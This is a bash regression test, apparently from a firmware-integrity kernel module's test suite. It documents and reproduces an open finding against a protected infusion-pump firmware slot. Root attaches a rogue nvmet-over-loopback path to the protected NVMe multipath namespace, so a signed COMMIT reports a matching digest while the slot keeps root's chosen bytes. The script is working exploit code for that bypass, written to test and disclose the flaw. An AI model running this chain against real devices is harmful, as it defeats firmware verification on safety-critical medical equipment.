#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Open finding: root adds a path of its own to the protected NVMe
# multipath namespace, and the kernel then commits an image the slot does
# not hold. nvmet (Debian builds it, with nvmet-tcp) exports a loop device
# of root's as namespace 1 of a target subsystem named with the protected
# subsystem's NQN, its namespace identifiers zeroed as the device's are
# (QEMU's are "bogus" and ignored); nvme-tcp connects to it over
# 127.0.0.1, nvme_core puts the new controller into the protected
# subsystem and its namespace under the protected head as one more path.
# mpath.c takes it for a path of the head (gated, its ranges carried), so
# nothing refuses it; but its medium is root's file. With the round-robin
# I/O policy the head sends part of every session's bios there: COMMIT
# hashed all of the image and writes the head, "digest matches", while the
# real slot keeps its old bytes wherever a bio went to root's path (here
# two of four 512 KiB stretches). Root chooses those bytes beforehand with
# an aborted session (its body bytes stay, kmod/README.md), so the
# committed slot is the signed head over root's body. Reads through the
# head are spread the same way, so whatever reads the slot back in this
# boot (boot-verify's hash, RETIRE's proof) may read root's copy.
#
# One -kernel guest, FWGUARD_NVME_PATHS=2 (a shared namespace behind two
# controllers), fw_b of the head protected, lockdown=integrity; the
# session is the kernel's own (BEGIN, write, COMMIT with a signed ticket).
scenario=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/$(basename "${BASH_SOURCE[0]}")
IMAGE_BYTES=$((2 * 1024 * 1024))

# ---- guest side -------------------------------------------------------------
protect() { # PARTITION
	/usr/bin/python3 - "$1" <<'PY'
import fcntl, os, struct, sys
st = os.stat(sys.argv[1])
arg = struct.pack("<IIII32s", 48, 0, os.major(st.st_rdev), os.minor(st.st_rdev),
                  b"bootfw".ljust(32, b"\0"))
IOC_PROTECT = (1 << 30) | (48 << 16) | (0xF9 << 8) | 1
fcntl.ioctl(os.open("/dev/fwguard", os.O_RDWR), IOC_PROTECT, arg)
PY
}

# session BUNDLE PARTITION IMAGE: BEGIN with the bundle's ticket, the image, COMMIT.
session() {
	/usr/bin/python3 - "$@" <<'PY'
import ctypes, fcntl, os, struct, sys
bundle, part, img = sys.argv[1:4]
with open(bundle, "rb") as f:
    hdr = f.read(48)
    cms = f.read(struct.unpack_from("<I", hdr, 8)[0])
st = os.stat(part)
buf = ctypes.create_string_buffer(cms, len(cms))
arg = struct.pack("<IIIIQII", 32, 0, os.major(st.st_rdev), os.minor(st.st_rdev),
                  ctypes.addressof(buf), len(cms), 0)
ctl = os.open("/dev/fwguard", os.O_RDWR)
fd = fcntl.ioctl(ctl, (1 << 30) | (32 << 16) | (0xF9 << 8) | 3, bytearray(arg))
data = open(img, "rb").read()
n = 0
while n < len(data):
    n += os.write(fd, data[n:n + 65536])
c = bytearray(struct.pack("<IIQ32sQ16s", 72, 0, 0, b"", 0, b""))
try:
    fcntl.ioctl(fd, (3 << 30) | (72 << 16) | (0xF9 << 8) | 4, c)
    print("commit ok")
except OSError as e:
    print("commit refused: %s" % e)
PY
}

# rogue_path HEAD: nvmet over loopback TCP, named as the head's subsystem.
rogue_path() {
	local head=$1 nqn size loopdev cfg=/sys/kernel/config/nvmet
	nqn=$(cat /sys/block/"$head"/device/subsysnqn 2>/dev/null ||
		cat /sys/class/nvme-subsystem/nvme-subsys*/subsysnqn)
	size=$(cat /sys/block/"$head"/size)
	ip link set lo up
	modprobe loop && modprobe nvmet && modprobe nvmet-tcp && modprobe nvme-tcp || return 1
	mountpoint -q /sys/kernel/config || mount -t configfs none /sys/kernel/config
	truncate -s $((size * 512)) /tmp/rogue.img
	loopdev=$(losetup -f --show /tmp/rogue.img) || return 1
	mkdir "$cfg/subsystems/$nqn" || return 1
	echo 1 >"$cfg/subsystems/$nqn/attr_allow_any_host"
	echo 100 >"$cfg/subsystems/$nqn/attr_cntlid_min"
	mkdir "$cfg/subsystems/$nqn/namespaces/1"
	echo "$loopdev" >"$cfg/subsystems/$nqn/namespaces/1/device_path"
	echo 00000000-0000-0000-0000-000000000000 >"$cfg/subsystems/$nqn/namespaces/1/device_uuid"
	echo 1 >"$cfg/subsystems/$nqn/namespaces/1/enable" || return 1
	mkdir "$cfg/ports/1"
	echo tcp >"$cfg/ports/1/addr_trtype"
	echo ipv4 >"$cfg/ports/1/addr_adrfam"
	echo 127.0.0.1 >"$cfg/ports/1/addr_traddr"
	echo 4420 >"$cfg/ports/1/addr_trsvcid"
	ln -s "$cfg/subsystems/$nqn" "$cfg/ports/1/subsystems/" || return 1
	echo "transport=tcp,traddr=127.0.0.1,trsvcid=4420,nqn=$nqn" >/dev/nvme-fabrics
}

guest() {
	local out=$1 head="" part="" p start nsec i
	exec >"$out/guest.log" 2>&1
	set -x
	insmod "$top/build/kmod/$(uname -r)/fwguard.ko" keyring_mode=provision \
		device_class=infusion-pump || return 1
	keyctl padd asymmetric "" %:.fwguard <"$top/build/pki/signer.der" || return 1
	keyctl restrict_keyring %:.fwguard || return 1
	modprobe nvme
	for i in $(seq 600); do
		[ "$(ls -d /sys/block/nvme*c*n1 2>/dev/null | wc -l)" -eq 2 ] && break
		sleep 0.1
	done
	head=$(ls -d /sys/class/nvme-subsystem/nvme-subsys*/nvme*n1 2>/dev/null | head -1)
	head=${head##*/}
	[ -n "$head" ] || { echo "no multipath head"; return 1; }
	for p in /sys/class/block/"$head"p*; do
		grep -q '^PARTNAME=fw_b$' "$p/uevent" && part=${p##*/}
	done
	[ -n "$part" ] || return 1
	start=$(cat /sys/class/block/"$part"/start)
	nsec=$(cat /sys/class/block/"$part"/size)
	echo "$start" >"$out/start"
	# fw_b holds 0xa5 before the update (root's bytes, or the old release).
	head -c $((nsec * 512)) /dev/zero | tr '\0' '\245' |
		dd of=/dev/"$head" bs=512 seek="$start" oflag=direct conv=notrunc status=none
	protect /dev/"$part" || return 1
	echo integrity >/sys/kernel/security/lockdown
	rogue_path "$head"
	for i in $(seq 300); do
		[ "$(ls -d /sys/block/nvme*c*n1 2>/dev/null | wc -l)" -ge 3 ] && break
		sleep 0.1
	done
	ls -d /sys/block/nvme*c*n1 | wc -l >"$out/paths"
	for p in /sys/class/nvme-subsystem/*/iopolicy; do echo round-robin >"$p"; done
	session "$out/v1.fwb" /dev/"$part" "$out/v1.img" >"$out/commit"
	sync
	dmesg | grep -E 'fwguard|nvme' | tail -25
	return 0
}

# ---- host side --------------------------------------------------------------
main() {
	top=$(cd "$(dirname "$scenario")/../.." && pwd)
	. "$top/tests/lib/common.sh"
	kver=${KVER:-$("$top/tests/kver" "${KERNEL:-6.1}")}
	test_workdir nvme-fabrics-path "$build"
	tap_plan 3
	head -c "$IMAGE_BYTES" /dev/zero | tr '\0' '\132' >"$work/v1.img"
	"$uc" bundle create --image "$work/v1.img" --component bootfw --device-class infusion-pump \
		--security-version 1 --key "$pki/signer.key" --cert "$pki/signer.crt" \
		--output "$work/v1.fwb" >/dev/null || { tap_fail "bundle"; tap_done; exit; }
	"$top/tests/vm/mkdisk" "$work/nvme.img" 4 6 >/dev/null
	sgdisk -u 1:R -u 2:R -u 3:R "$work/nvme.img" >/dev/null
	FWGUARD_NVME_PATHS=2 "$top/tests/vm/run" --kernel "$kver" --out "$work" --nvme "$work/nvme.img" -- \
		/usr/bin/env E2E_DEVICE=1 /bin/bash "$scenario" --guest "$work" >"$work/vm.log" 2>&1
	if [ ! -s "$work/commit" ]; then
		tap_fail "guest ran" "$(tail -5 "$work/guest.log" 2>/dev/null)"
		tap_done; exit
	fi
	if [ "$(cat "$work/paths")" -le 2 ]; then
		tap_ok "a path of root's own is not added to the protected namespace"
	else
		tap_fail "a path of root's own is not added to the protected namespace" \
			"$(cat "$work/paths") paths under the head, one of them nvmet over 127.0.0.1"
	fi
	tap_ok "the session ran: $(cat "$work/commit")"
	local got
	got=$(dd if="$work/nvme.img" bs=512 skip="$(cat "$work/start")" count=$((IMAGE_BYTES / 512)) \
		status=none | sha256sum | cut -d' ' -f1)
	if grep -q "commit ok" "$work/commit" && [ "$got" != "$(sha256sum <"$work/v1.img" | cut -d' ' -f1)" ]; then
		tap_fail "a committed slot holds the image the kernel measured" \
			"the medium's fw_b: $(dd if="$work/nvme.img" bs=512 skip="$(cat "$work/start")" \
				count=$((IMAGE_BYTES / 512)) status=none | od -An -tx1 -v | tr -s ' \n' '\n\n' |
				grep -v '^$' | sort | uniq -c | tr -s ' \n' ' ')bytes"
	else
		tap_ok "a committed slot holds the image the kernel measured"
	fi
	tap_done
}

if [ "${1:-}" = --guest ]; then
	top=$(cd "$(dirname "$scenario")/../.." && pwd)
	guest "$2"
	exit
fi
[ -n "${E2E_DEVICE:-}" ] || main "$@"
